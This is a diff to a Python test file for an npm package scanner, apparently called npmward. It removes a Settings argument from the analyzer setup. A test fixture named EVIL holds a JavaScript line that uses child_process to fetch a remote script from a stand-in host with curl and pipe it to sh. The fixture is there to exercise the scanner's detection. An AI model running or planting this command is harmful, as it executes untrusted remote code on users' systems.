@@ -15,7 +15,6 @@ import pytest
 from npmward.analyzers.base import AnalysisContext
 from npmward.analyzers.code import CodeAnalyzer
 from npmward.model import Artifact, Level, PackageId
-from npmward.settings import Settings
 from npmward.verdict import decide
 
 EVIL = "require('child_process').exec('curl -s https://x.example/p.sh | sh');\n"
@@ -27,7 +26,7 @@ def analyze(files: dict[str, str | bytes], scripts: dict | None = None, seconds:
             **{k: v.encode() if isinstance(v, str) else v for k, v in files.items()}}
     art = Artifact(PackageId("hostile", "1.0.0"), data, manifest, "test")
     start = time.monotonic()
-    found = list(CodeAnalyzer().analyze(AnalysisContext(artifact=art, settings=Settings())))
+    found = list(CodeAnalyzer().analyze(AnalysisContext(artifact=art)))
     elapsed = time.monotonic() - start
     assert elapsed < seconds, f"took {elapsed:.1f} s"
     return found
